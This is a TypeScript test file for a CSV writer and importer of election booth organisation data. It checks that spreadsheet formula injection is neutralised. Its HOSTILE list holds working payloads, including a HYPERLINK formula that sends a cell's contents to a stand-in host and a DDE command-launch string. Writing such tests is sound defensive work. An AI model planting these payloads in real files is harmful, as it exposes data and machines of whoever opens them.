/**
 * Spreadsheet formulas in CSV (OWASP "CSV injection"): hostile names in an organisation file, as
 * a field team's file might carry them, are imported, exported again through the one CSV writer,
 * and opened with a spreadsheet reader (SheetJS, which reads a CSV cell starting with = as a
 * formula): no cell is a formula, every hostile text shows as typed, negative numbers stay
 * numbers, and the export imports back to the same rows.
 */
import * as XLSX from '@e965/xlsx';
import { describe, expect, it } from 'vitest';
import { csvRows, csvValue, safeText, toCsv } from '../../../src/lib/export/csv.ts';
import { orgRowsToCsv, parseOrgText } from '../../../src/lib/import/org-import.ts';

/** Every cell of the first sheet of a CSV text, as a spreadsheet reads it. */
function cells(csv: string) {
	const wb = XLSX.read(csv, { type: 'string' });
	const ws = wb.Sheets[wb.SheetNames[0]];
	return Object.entries(ws)
		.filter(([k]) => !k.startsWith('!'))
		.map(([ref, c]) => ({ ref, ...(c as XLSX.CellObject) }));
}

const HOSTILE = [
	'=HYPERLINK("http://example.invalid/?x="&A1,"Booth report")',
	'+1+1',
	'-2+3',
	'@SUM(1,1)',
	'\t=1+1',
	'\r=1+1',
	"=cmd|' /C calc'!A0"
];

describe('the writer', () => {
	it.each([
		{ input: '=1+1', expected: "'=1+1" },
		{ input: '+91 98765 43210', expected: "'+91 98765 43210" },
		{ input: '-2+3', expected: "'-2+3" },
		{ input: '@SUM(1)', expected: "'@SUM(1)" },
		{ input: '-12.5', expected: '-12.5' },
		{ input: '+3', expected: '+3' },
		{ input: 'Kidwai Nagar', expected: 'Kidwai Nagar' },
		{ input: 'a=b', expected: 'a=b' }
	])('text $input → $expected', ({ input, expected }) => expect(safeText(input)).toBe(expected));

	it.each([
		{ input: -28.43, expected: '-28.43' },
		{ input: -5, expected: '-5' },
		{ input: null, expected: '' }
	])('number $input → $expected', ({ input, expected }) => expect(csvValue(input)).toBe(expected));

	it('a table read by a spreadsheet: hostile names are text, margins are numbers', () => {
		const csv = toCsv(
			HOSTILE.map((name, i) => ({ name, margin_pts: -12.5 - i, votes: 1000 + i })),
			['name', 'margin_pts', 'votes'],
			['=Preamble line that looks like a formula']
		);
		const all = cells(csv);
		expect(all.filter((c) => c.f !== undefined)).toEqual([]);
		const names = all.filter((c) => c.ref.startsWith('A') && c.ref !== 'A1' && c.ref !== 'A2');
		expect(names.map((c) => c.v)).toEqual(HOSTILE.map((h) => `'${h}`));
		const margins = all.filter((c) => /^B[3-9]$/.test(c.ref));
		expect(margins.map((c) => [c.t, c.v])).toEqual(HOSTILE.map((_, i) => ['n', -12.5 - i]));
		expect(csvRows([['=x']])).toBe("'=x\n");
	});
});

describe('hostile names in an imported organisation file', () => {
	const file = [
		'AC No,Booth No,Booth President,Committee Members,Notes,Preferred Aspirant',
		...HOSTILE.map(
			(h, i) => `213,${i + 1},yes,${i},"${h.replace(/"/g, '""')}","${h.replace(/"/g, '""')} ${i}"`
		)
	].join('\n');
	const any = { has: () => true } as unknown as Set<number>;
	const imported = parseOrgText(file, 'hostile.csv', { booths: () => any });

	it('are imported as text', () => {
		expect(imported.problems).toEqual([]);
		expect(imported.rows.map((r) => r.notes)).toEqual(HOSTILE.map((h) => h.trim()));
	});

	it('are exported as text a spreadsheet does not run, and import back as they were', () => {
		const csv = orgRowsToCsv(imported.rows, 'en');
		const all = cells(csv);
		expect(all.filter((c) => c.f !== undefined)).toEqual([]);
		for (const h of HOSTILE.map((x) => x.trim()))
			expect(all.some((c) => c.v === `'${h}`)).toBe(true);
		const again = parseOrgText(csv, 'export.csv', { booths: () => any });
		expect(again.rows).toEqual(imported.rows);
	});
});
